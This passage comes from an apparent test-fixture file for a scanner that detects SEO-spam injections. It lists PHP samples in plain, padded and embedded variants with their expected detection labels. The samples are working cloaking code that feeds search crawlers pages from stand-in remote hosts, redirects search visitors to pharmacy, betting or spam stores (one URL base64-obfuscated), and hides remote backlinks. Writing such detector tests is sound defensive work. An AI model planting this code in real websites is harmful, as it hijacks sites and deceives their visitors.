            "<?php\nif (!function_exists('wp_seo_cache_h')) {\n    function wp_seo_cache_h() {\n        $agent = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\n        if (preg_match('/Googlebot|Bingbot|Yahoo! Slurp/i', $agent)) {\n            $resp = wp_remote_get('http://seo.example.top/w.php?s=' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);\n            if (!is_wp_error($resp)) { echo wp_remote_retrieve_body($resp); exit; }\n        }\n    }\n    add_action('init', 'wp_seo_cache_h', 1);\n}\n?>"
        ),
        True,
    ),  # wp_functions_inject plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\nif (!function_exists('wp_seo_cache_h')) {\n    function wp_seo_cache_h() {\n        $agent = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\n        if (preg_match('/Googlebot|Bingbot|Yahoo! Slurp/i', $agent)) {\n            $resp = wp_remote_get('http://seo.example.top/w.php?s=' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);\n            if (!is_wp_error($resp)) { echo wp_remote_retrieve_body($resp); exit; }\n        }\n    }\n    add_action('init', 'wp_seo_cache_h', 1);\n}\n?>"
        ),
        True,
    ),  # wp_functions_inject padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\nif (!function_exists('wp_seo_cache_h')) {\n    function wp_seo_cache_h() {\n        $agent = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\n        if (preg_match('/Googlebot|Bingbot|Yahoo! Slurp/i', $agent)) {\n            $resp = wp_remote_get('http://seo.example.top/w.php?s=' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);\n            if (!is_wp_error($resp)) { echo wp_remote_retrieve_body($resp); exit; }\n        }\n    }\n    add_action('init', 'wp_seo_cache_h', 1);\n}\n?>"
        ),
        True,
    ),  # wp_functions_inject embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            '<?php\nif(stristr($_SERVER["HTTP_USER_AGENT"],"Yandex")||stristr($_SERVER["HTTP_USER_AGENT"],"Google")){$x=file_get_contents("http://d.example.top/t/".$_SERVER["HTTP_HOST"]."/".md5($_SERVER["REQUEST_URI"]));echo $x;exit;}\n?>'
        ),
        True,
    ),  # yandex_only plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            '<?php\nif(stristr($_SERVER["HTTP_USER_AGENT"],"Yandex")||stristr($_SERVER["HTTP_USER_AGENT"],"Google")){$x=file_get_contents("http://d.example.top/t/".$_SERVER["HTTP_HOST"]."/".md5($_SERVER["REQUEST_URI"]));echo $x;exit;}\n?>'
        ),
        True,
    ),  # yandex_only padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            '<?php\nif(stristr($_SERVER["HTTP_USER_AGENT"],"Yandex")||stristr($_SERVER["HTTP_USER_AGENT"],"Google")){$x=file_get_contents("http://d.example.top/t/".$_SERVER["HTTP_HOST"]."/".md5($_SERVER["REQUEST_URI"]));echo $x;exit;}\n?>'
        ),
        True,
    ),  # yandex_only embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$h = getallheaders();\n$ua = isset($h['User-Agent']) ? $h['User-Agent'] : '';\nif (preg_match('/googlebot|bingbot/i', $ua)) {\n    echo file_get_contents('http://g.example.top/?d=' . $_SERVER['HTTP_HOST'] . '&p=' . $_SERVER['REQUEST_URI']);\n    exit;\n}\n?>"
        ),
        True,
    ),  # getallheaders plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\n$h = getallheaders();\n$ua = isset($h['User-Agent']) ? $h['User-Agent'] : '';\nif (preg_match('/googlebot|bingbot/i', $ua)) {\n    echo file_get_contents('http://g.example.top/?d=' . $_SERVER['HTTP_HOST'] . '&p=' . $_SERVER['REQUEST_URI']);\n    exit;\n}\n?>"
        ),
        True,
    ),  # getallheaders padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$h = getallheaders();\n$ua = isset($h['User-Agent']) ? $h['User-Agent'] : '';\nif (preg_match('/googlebot|bingbot/i', $ua)) {\n    echo file_get_contents('http://g.example.top/?d=' . $_SERVER['HTTP_HOST'] . '&p=' . $_SERVER['REQUEST_URI']);\n    exit;\n}\n?>"
        ),
        True,
    ),  # getallheaders embedded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\nif (!isset($_COOKIE['vv']) && preg_match('/(google|bing|yahoo|aol|ask)\\./i', $_SERVER['HTTP_REFERER'])) {\n    setcookie('vv', '1', time() + 3600 * 24, '/');\n    header('HTTP/1.1 302 Found');\n    header('Location: https://pharma.example.top/go/' . rand(1, 99));\n    exit;\n}\n?>"
        ),
        True,
    ),  # ref_cookie_redirect plain
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        padded(
            "<?php\nif (!isset($_COOKIE['vv']) && preg_match('/(google|bing|yahoo|aol|ask)\\./i', $_SERVER['HTTP_REFERER'])) {\n    setcookie('vv', '1', time() + 3600 * 24, '/');\n    header('HTTP/1.1 302 Found');\n    header('Location: https://pharma.example.top/go/' . rand(1, 99));\n    exit;\n}\n?>"
        ),
        True,
    ),  # ref_cookie_redirect padded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        embedded(
            "<?php\nif (!isset($_COOKIE['vv']) && preg_match('/(google|bing|yahoo|aol|ask)\\./i', $_SERVER['HTTP_REFERER'])) {\n    setcookie('vv', '1', time() + 3600 * 24, '/');\n    header('HTTP/1.1 302 Found');\n    header('Location: https://pharma.example.top/go/' . rand(1, 99));\n    exit;\n}\n?>"
        ),
        True,
    ),  # ref_cookie_redirect embedded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\n$se = array('google', 'bing', 'yahoo', 'yandex');\n$rf = strtolower(@$_SERVER['HTTP_REFERER']);\nforeach ($se as $e) {\n    if (strstr($rf, $e)) {\n        $to = base64_decode('aHR0cHM6Ly9zcGFtLmV4YW1wbGUudG9wLw==');\n        echo \"<script type=\\\"text/javascript\\\">top.location.replace('\" . $to . \"');</script>\";\n        exit;\n    }\n}\n?>"
        ),
        True,
    ),  # ref_split_js plain
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        padded(
            "<?php\n$se = array('google', 'bing', 'yahoo', 'yandex');\n$rf = strtolower(@$_SERVER['HTTP_REFERER']);\nforeach ($se as $e) {\n    if (strstr($rf, $e)) {\n        $to = base64_decode('aHR0cHM6Ly9zcGFtLmV4YW1wbGUudG9wLw==');\n        echo \"<script type=\\\"text/javascript\\\">top.location.replace('\" . $to . \"');</script>\";\n        exit;\n    }\n}\n?>"
        ),
        True,
    ),  # ref_split_js padded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        embedded(
            "<?php\n$se = array('google', 'bing', 'yahoo', 'yandex');\n$rf = strtolower(@$_SERVER['HTTP_REFERER']);\nforeach ($se as $e) {\n    if (strstr($rf, $e)) {\n        $to = base64_decode('aHR0cHM6Ly9zcGFtLmV4YW1wbGUudG9wLw==');\n        echo \"<script type=\\\"text/javascript\\\">top.location.replace('\" . $to . \"');</script>\";\n        exit;\n    }\n}\n?>"
        ),
        True,
    ),  # ref_split_js embedded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\n$ip = $_SERVER['REMOTE_ADDR'];\n$host = gethostbyaddr($ip);\nif (preg_match('/\\.googlebot\\.com$|\\.search\\.msn\\.com$/', $host)) {\n    $p = file_get_contents(\"http://91.200.1.5/page.php?d=\" . $_SERVER['HTTP_HOST'] . \"&u=\" . $_SERVER['REQUEST_URI']);\n    echo $p; exit;\n}\n?>"
        ),
        True,
    ),  # ip_check_google plain
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        padded(
            "<?php\n$ip = $_SERVER['REMOTE_ADDR'];\n$host = gethostbyaddr($ip);\nif (preg_match('/\\.googlebot\\.com$|\\.search\\.msn\\.com$/', $host)) {\n    $p = file_get_contents(\"http://91.200.1.5/page.php?d=\" . $_SERVER['HTTP_HOST'] . \"&u=\" . $_SERVER['REQUEST_URI']);\n    echo $p; exit;\n}\n?>"
        ),
        True,
    ),  # ip_check_google padded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        embedded(
            "<?php\n$ip = $_SERVER['REMOTE_ADDR'];\n$host = gethostbyaddr($ip);\nif (preg_match('/\\.googlebot\\.com$|\\.search\\.msn\\.com$/', $host)) {\n    $p = file_get_contents(\"http://91.200.1.5/page.php?d=\" . $_SERVER['HTTP_HOST'] . \"&u=\" . $_SERVER['REQUEST_URI']);\n    echo $p; exit;\n}\n?>"
        ),
        True,
    ),  # ip_check_google embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$bot = preg_match('/bot|crawl|spider|slurp|yandex|baidu/i', $_SERVER['HTTP_USER_AGENT']);\n$api = 'http://api.example-doorway.top/v2/';\n$q = http_build_query(array('host' => $_SERVER['HTTP_HOST'], 'uri' => $_SERVER['REQUEST_URI'], 'bot' => $bot, 'lang' => @$_SERVER['HTTP_ACCEPT_LANGUAGE']));\n$body = @file_get_contents($api . '?' . $q);\nif ($bot && $body) { echo $body; exit; }\nif (!$bot && preg_match('/google|bing/i', @$_SERVER['HTTP_REFERER'])) { header('Location: ' . $api . 'go?' . $q); exit; }\n?>"
        ),
        True,
    ),  # bot_ua_forward plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\n$bot = preg_match('/bot|crawl|spider|slurp|yandex|baidu/i', $_SERVER['HTTP_USER_AGENT']);\n$api = 'http://api.example-doorway.top/v2/';\n$q = http_build_query(array('host' => $_SERVER['HTTP_HOST'], 'uri' => $_SERVER['REQUEST_URI'], 'bot' => $bot, 'lang' => @$_SERVER['HTTP_ACCEPT_LANGUAGE']));\n$body = @file_get_contents($api . '?' . $q);\nif ($bot && $body) { echo $body; exit; }\nif (!$bot && preg_match('/google|bing/i', @$_SERVER['HTTP_REFERER'])) { header('Location: ' . $api . 'go?' . $q); exit; }\n?>"
        ),
        True,
    ),  # bot_ua_forward padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$bot = preg_match('/bot|crawl|spider|slurp|yandex|baidu/i', $_SERVER['HTTP_USER_AGENT']);\n$api = 'http://api.example-doorway.top/v2/';\n$q = http_build_query(array('host' => $_SERVER['HTTP_HOST'], 'uri' => $_SERVER['REQUEST_URI'], 'bot' => $bot, 'lang' => @$_SERVER['HTTP_ACCEPT_LANGUAGE']));\n$body = @file_get_contents($api . '?' . $q);\nif ($bot && $body) { echo $body; exit; }\nif (!$bot && preg_match('/google|bing/i', @$_SERVER['HTTP_REFERER'])) { header('Location: ' . $api . 'go?' . $q); exit; }\n?>"
        ),
        True,
    ),  # bot_ua_forward embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$ua = $_SERVER['HTTP_USER_AGENT'];\nif (stripos($ua, 'google') !== false) {\n    $opts = array('http' => array('method' => 'GET', 'header' => \"User-Agent: $ua\\r\\n\"));\n    $ctx = stream_context_create($opts);\n    $target = 'http://mirror.example.top' . $_SERVER['REQUEST_URI'];\n    echo file_get_contents($target, false, $ctx);\n    exit;\n}\n?>"
        ),
        True,
    ),  # stream_ctx plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\n$ua = $_SERVER['HTTP_USER_AGENT'];\nif (stripos($ua, 'google') !== false) {\n    $opts = array('http' => array('method' => 'GET', 'header' => \"User-Agent: $ua\\r\\n\"));\n    $ctx = stream_context_create($opts);\n    $target = 'http://mirror.example.top' . $_SERVER['REQUEST_URI'];\n    echo file_get_contents($target, false, $ctx);\n    exit;\n}\n?>"
        ),
        True,
    ),  # stream_ctx padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$ua = $_SERVER['HTTP_USER_AGENT'];\nif (stripos($ua, 'google') !== false) {\n    $opts = array('http' => array('method' => 'GET', 'header' => \"User-Agent: $ua\\r\\n\"));\n    $ctx = stream_context_create($opts);\n    $target = 'http://mirror.example.top' . $_SERVER['REQUEST_URI'];\n    echo file_get_contents($target, false, $ctx);\n    exit;\n}\n?>"
        ),
        True,
    ),  # stream_ctx embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$S = $_SERVER;\nif (preg_match('/googlebot|bingbot/i', $S['HTTP_USER_AGENT'])) {\n    echo @file_get_contents('http://x.example.top/c?h=' . $S['HTTP_HOST'] . '&u=' . $S['REQUEST_URI']);\n    exit;\n}\n?>"
        ),
        True,
    ),  # variable_server plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\n$S = $_SERVER;\nif (preg_match('/googlebot|bingbot/i', $S['HTTP_USER_AGENT'])) {\n    echo @file_get_contents('http://x.example.top/c?h=' . $S['HTTP_HOST'] . '&u=' . $S['REQUEST_URI']);\n    exit;\n}\n?>"
        ),
        True,
    ),  # variable_server padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$S = $_SERVER;\nif (preg_match('/googlebot|bingbot/i', $S['HTTP_USER_AGENT'])) {\n    echo @file_get_contents('http://x.example.top/c?h=' . $S['HTTP_HOST'] . '&u=' . $S['REQUEST_URI']);\n    exit;\n}\n?>"
        ),
        True,
    ),  # variable_server embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$u = getenv('HTTP_USER_AGENT');\nif (strpos(strtolower($u), 'googlebot') !== false) {\n    readfile('http://x.example.top/page/' . getenv('HTTP_HOST') . getenv('REQUEST_URI'));\n    exit;\n}\n?>"
        ),
        True,
    ),  # getenv_ua plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\n$u = getenv('HTTP_USER_AGENT');\nif (strpos(strtolower($u), 'googlebot') !== false) {\n    readfile('http://x.example.top/page/' . getenv('HTTP_HOST') . getenv('REQUEST_URI'));\n    exit;\n}\n?>"
        ),
        True,
    ),  # getenv_ua padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$u = getenv('HTTP_USER_AGENT');\nif (strpos(strtolower($u), 'googlebot') !== false) {\n    readfile('http://x.example.top/page/' . getenv('HTTP_HOST') . getenv('REQUEST_URI'));\n    exit;\n}\n?>"
        ),
        True,
    ),  # getenv_ua embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n@error_reporting(0);\n$_u = @$_SERVER['HTTP_USER_AGENT'];\nif (strpos($_u, 'bot') || strpos($_u, 'Bot') || strpos($_u, 'spider')) {\n    $_c = @file_get_contents('http://cdn.example-stat.top/t.php?r=' . $_SERVER['SERVER_NAME'] . $_SERVER['REQUEST_URI']);\n    if (strlen($_c) > 100) { echo $_c; exit; }\n}\n?>"
        ),
        True,
    ),  # index_inject_top plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\n@error_reporting(0);\n$_u = @$_SERVER['HTTP_USER_AGENT'];\nif (strpos($_u, 'bot') || strpos($_u, 'Bot') || strpos($_u, 'spider')) {\n    $_c = @file_get_contents('http://cdn.example-stat.top/t.php?r=' . $_SERVER['SERVER_NAME'] . $_SERVER['REQUEST_URI']);\n    if (strlen($_c) > 100) { echo $_c; exit; }\n}\n?>"
        ),
        True,
    ),  # index_inject_top padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n@error_reporting(0);\n$_u = @$_SERVER['HTTP_USER_AGENT'];\nif (strpos($_u, 'bot') || strpos($_u, 'Bot') || strpos($_u, 'spider')) {\n    $_c = @file_get_contents('http://cdn.example-stat.top/t.php?r=' . $_SERVER['SERVER_NAME'] . $_SERVER['REQUEST_URI']);\n    if (strlen($_c) > 100) { echo $_c; exit; }\n}\n?>"
        ),
        True,
    ),  # index_inject_top embedded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            '<?php\n$referer = $_SERVER["HTTP_REFERER"];\n$engines = "/(baidu|sogou|so\\.com|sm\\.cn|360)/";\nif (preg_match($engines, $referer)) {\n    echo "<script>location.href=\'http://www.example-bet.cn/\';</script>";\n    exit();\n}\n?>'
        ),
        True,
    ),  # ref_sogou_baidu plain
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        padded(
            '<?php\n$referer = $_SERVER["HTTP_REFERER"];\n$engines = "/(baidu|sogou|so\\.com|sm\\.cn|360)/";\nif (preg_match($engines, $referer)) {\n    echo "<script>location.href=\'http://www.example-bet.cn/\';</script>";\n    exit();\n}\n?>'
        ),
        True,
    ),  # ref_sogou_baidu padded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        embedded(
            '<?php\n$referer = $_SERVER["HTTP_REFERER"];\n$engines = "/(baidu|sogou|so\\.com|sm\\.cn|360)/";\nif (preg_match($engines, $referer)) {\n    echo "<script>location.href=\'http://www.example-bet.cn/\';</script>";\n    exit();\n}\n?>'
        ),
        True,
    ),  # ref_sogou_baidu embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            '<?php\nif (preg_match("/(Googlebot|Baiduspider|bingbot)/i", $_SERVER["HTTP_USER_AGENT"])) {\n    $u = "http://doorway.example.top/index.php?host=" . $_SERVER["HTTP_HOST"] . "&uri=" . urlencode($_SERVER["REQUEST_URI"]);\n    $r = @gzdecode(@file_get_contents($u));\n    echo $r ? $r : \'\';\n    exit;\n}\n?>'
        ),
        True,
    ),  # gzip_proxy plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            '<?php\nif (preg_match("/(Googlebot|Baiduspider|bingbot)/i", $_SERVER["HTTP_USER_AGENT"])) {\n    $u = "http://doorway.example.top/index.php?host=" . $_SERVER["HTTP_HOST"] . "&uri=" . urlencode($_SERVER["REQUEST_URI"]);\n    $r = @gzdecode(@file_get_contents($u));\n    echo $r ? $r : \'\';\n    exit;\n}\n?>'
        ),
        True,
    ),  # gzip_proxy padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            '<?php\nif (preg_match("/(Googlebot|Baiduspider|bingbot)/i", $_SERVER["HTTP_USER_AGENT"])) {\n    $u = "http://doorway.example.top/index.php?host=" . $_SERVER["HTTP_HOST"] . "&uri=" . urlencode($_SERVER["REQUEST_URI"]);\n    $r = @gzdecode(@file_get_contents($u));\n    echo $r ? $r : \'\';\n    exit;\n}\n?>'
        ),
        True,
    ),  # gzip_proxy embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$crawlers = ['googlebot', 'bingbot', 'yandexbot', 'baiduspider', 'duckduckbot'];\n$ua = strtolower($_SERVER['HTTP_USER_AGENT'] ?? '');\n$isBot = false;\nforeach ($crawlers as $c) { if (strpos($ua, $c) !== false) { $isBot = true; } }\nif ($isBot) {\n    $ctx = stream_context_create(['http' => ['timeout' => 5]]);\n    echo file_get_contents(\"https://tpl.example.top/r?d={$_SERVER['HTTP_HOST']}&u=\" . rawurlencode($_SERVER['REQUEST_URI']), false, $ctx);\n    exit;\n}\n?>"
        ),
        True,
    ),  # b2_ternary_in_array plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\n$crawlers = ['googlebot', 'bingbot', 'yandexbot', 'baiduspider', 'duckduckbot'];\n$ua = strtolower($_SERVER['HTTP_USER_AGENT'] ?? '');\n$isBot = false;\nforeach ($crawlers as $c) { if (strpos($ua, $c) !== false) { $isBot = true; } }\nif ($isBot) {\n    $ctx = stream_context_create(['http' => ['timeout' => 5]]);\n    echo file_get_contents(\"https://tpl.example.top/r?d={$_SERVER['HTTP_HOST']}&u=\" . rawurlencode($_SERVER['REQUEST_URI']), false, $ctx);\n    exit;\n}\n?>"
        ),
        True,
    ),  # b2_ternary_in_array padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$crawlers = ['googlebot', 'bingbot', 'yandexbot', 'baiduspider', 'duckduckbot'];\n$ua = strtolower($_SERVER['HTTP_USER_AGENT'] ?? '');\n$isBot = false;\nforeach ($crawlers as $c) { if (strpos($ua, $c) !== false) { $isBot = true; } }\nif ($isBot) {\n    $ctx = stream_context_create(['http' => ['timeout' => 5]]);\n    echo file_get_contents(\"https://tpl.example.top/r?d={$_SERVER['HTTP_HOST']}&u=\" . rawurlencode($_SERVER['REQUEST_URI']), false, $ctx);\n    exit;\n}\n?>"
        ),
        True,
    ),  # b2_ternary_in_array embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            '<?php\nif (preg_match("~(google|bing|yahoo)bot~i", $_SERVER["HTTP_USER_AGENT"])) {\n    $c = file_get_contents("http://links.example.top/get/{$_SERVER[\'HTTP_HOST\']}{$_SERVER[\'REQUEST_URI\']}");\n    echo $c; die;\n}\n?>'
        ),
        True,
    ),  # b2_double_quoted_interp plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            '<?php\nif (preg_match("~(google|bing|yahoo)bot~i", $_SERVER["HTTP_USER_AGENT"])) {\n    $c = file_get_contents("http://links.example.top/get/{$_SERVER[\'HTTP_HOST\']}{$_SERVER[\'REQUEST_URI\']}");\n    echo $c; die;\n}\n?>'
        ),
        True,
    ),  # b2_double_quoted_interp padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            '<?php\nif (preg_match("~(google|bing|yahoo)bot~i", $_SERVER["HTTP_USER_AGENT"])) {\n    $c = file_get_contents("http://links.example.top/get/{$_SERVER[\'HTTP_HOST\']}{$_SERVER[\'REQUEST_URI\']}");\n    echo $c; die;\n}\n?>'
        ),
        True,
    ),  # b2_double_quoted_interp embedded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\nif (isset($_SERVER['HTTP_REFERER']) && preg_match('/(google|bing|yahoo|duckduckgo)\\./', $_SERVER['HTTP_REFERER'])) {\n    header('Refresh: 0; url=https://spam-store.example.top/');\n    exit;\n}\n?>"
        ),
        True,
    ),  # b2_ref_header_refresh plain
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        padded(
            "<?php\nif (isset($_SERVER['HTTP_REFERER']) && preg_match('/(google|bing|yahoo|duckduckgo)\\./', $_SERVER['HTTP_REFERER'])) {\n    header('Refresh: 0; url=https://spam-store.example.top/');\n    exit;\n}\n?>"
        ),
        True,
    ),  # b2_ref_header_refresh padded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        embedded(
            "<?php\nif (isset($_SERVER['HTTP_REFERER']) && preg_match('/(google|bing|yahoo|duckduckgo)\\./', $_SERVER['HTTP_REFERER'])) {\n    header('Refresh: 0; url=https://spam-store.example.top/');\n    exit;\n}\n?>"
        ),
        True,
    ),  # b2_ref_header_refresh embedded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\n$go = 'https://pharm.example.top/?k=' . urlencode($_GET['q'] ?? '');\n$r = strtolower($_SERVER['HTTP_REFERER'] ?? '');\nif (strpos($r, 'google') !== false || strpos($r, 'bing') !== false) {\n    header(\"Location: $go\", true, 302);\n    exit;\n}\n?>"
        ),
        True,
    ),  # b2_ref_location_var plain
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        padded(
            "<?php\n$go = 'https://pharm.example.top/?k=' . urlencode($_GET['q'] ?? '');\n$r = strtolower($_SERVER['HTTP_REFERER'] ?? '');\nif (strpos($r, 'google') !== false || strpos($r, 'bing') !== false) {\n    header(\"Location: $go\", true, 302);\n    exit;\n}\n?>"
        ),
        True,
    ),  # b2_ref_location_var padded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        embedded(
            "<?php\n$go = 'https://pharm.example.top/?k=' . urlencode($_GET['q'] ?? '');\n$r = strtolower($_SERVER['HTTP_REFERER'] ?? '');\nif (strpos($r, 'google') !== false || strpos($r, 'bing') !== false) {\n    header(\"Location: $go\", true, 302);\n    exit;\n}\n?>"
        ),
        True,
    ),  # b2_ref_location_var embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\nadd_action('template_redirect', function () {\n    $ua = $_SERVER['HTTP_USER_AGENT'] ?? '';\n    if (!preg_match('/Googlebot|bingbot|YandexBot/', $ua)) { return; }\n    $ch = curl_init();\n    curl_setopt_array($ch, [CURLOPT_URL => 'http://wp-seo.example.top/c.php?h=' . $_SERVER['HTTP_HOST'] . '&u=' . $_SERVER['REQUEST_URI'], CURLOPT_RETURNTRANSFER => true]);\n    $body = curl_exec($ch);\n    if ($body) { echo $body; exit; }\n});\n?>"
        ),
        True,
    ),  # b2_curl_func_wp plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\nadd_action('template_redirect', function () {\n    $ua = $_SERVER['HTTP_USER_AGENT'] ?? '';\n    if (!preg_match('/Googlebot|bingbot|YandexBot/', $ua)) { return; }\n    $ch = curl_init();\n    curl_setopt_array($ch, [CURLOPT_URL => 'http://wp-seo.example.top/c.php?h=' . $_SERVER['HTTP_HOST'] . '&u=' . $_SERVER['REQUEST_URI'], CURLOPT_RETURNTRANSFER => true]);\n    $body = curl_exec($ch);\n    if ($body) { echo $body; exit; }\n});\n?>"
        ),
        True,
    ),  # b2_curl_func_wp padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\nadd_action('template_redirect', function () {\n    $ua = $_SERVER['HTTP_USER_AGENT'] ?? '';\n    if (!preg_match('/Googlebot|bingbot|YandexBot/', $ua)) { return; }\n    $ch = curl_init();\n    curl_setopt_array($ch, [CURLOPT_URL => 'http://wp-seo.example.top/c.php?h=' . $_SERVER['HTTP_HOST'] . '&u=' . $_SERVER['REQUEST_URI'], CURLOPT_RETURNTRANSFER => true]);\n    $body = curl_exec($ch);\n    if ($body) { echo $body; exit; }\n});\n?>"
        ),
        True,
    ),  # b2_curl_func_wp embedded
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            '<?php\n$ch = curl_init("http://backlinks.example.top/get.php?d=" . $_SERVER[\'HTTP_HOST\']);\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$l = curl_exec($ch);\necho "<div style=\\"display: none;\\">" . $l . "</div>";\n?>'
        ),
        True,
    ),  # b2_hidden_links_curl plain
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        padded(
            '<?php\n$ch = curl_init("http://backlinks.example.top/get.php?d=" . $_SERVER[\'HTTP_HOST\']);\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$l = curl_exec($ch);\necho "<div style=\\"display: none;\\">" . $l . "</div>";\n?>'
        ),
        True,
    ),  # b2_hidden_links_curl padded
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        embedded(
            '<?php\n$ch = curl_init("http://backlinks.example.top/get.php?d=" . $_SERVER[\'HTTP_HOST\']);\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$l = curl_exec($ch);\necho "<div style=\\"display: none;\\">" . $l . "</div>";\n?>'
        ),
        True,
    ),  # b2_hidden_links_curl embedded
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\n$arr = file('https://links.example.top/l.txt', FILE_IGNORE_NEW_LINES);\nprint '<span style=\"position:absolute; top:-5000px\">';\nforeach ($arr as $a) print \"<a href='$a'>$a</a>\";\nprint '</span>';\n?>"
        ),
        True,
    ),  # b2_hidden_span_offscreen plain
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        padded(
            "<?php\n$arr = file('https://links.example.top/l.txt', FILE_IGNORE_NEW_LINES);\nprint '<span style=\"position:absolute; top:-5000px\">';\nforeach ($arr as $a) print \"<a href='$a'>$a</a>\";\nprint '</span>';\n?>"
        ),
        True,
    ),  # b2_hidden_span_offscreen padded
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        embedded(
            "<?php\n$arr = file('https://links.example.top/l.txt', FILE_IGNORE_NEW_LINES);\nprint '<span style=\"position:absolute; top:-5000px\">';\nforeach ($arr as $a) print \"<a href='$a'>$a</a>\";\nprint '</span>';\n?>"
        ),
        True,
    ),  # b2_hidden_span_offscreen embedded
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\n$keywords = explode(\"\\n\", file_get_contents(__DIR__ . '/kw.txt'));\n$tpl = file_get_contents(__DIR__ . '/tpl.php');\nforeach ($keywords as $n => $k) {\n    $k = trim($k); if ($k === '') continue;\n    $body = str_replace('[KEYWORD]', $k, $tpl);\n    file_put_contents(__DIR__ . '/' . str_replace(' ', '-', $k) . '.php', $body);\n}\n?>"
        ),
        True,
    ),  # b2_doorway_phpfiles plain
    (
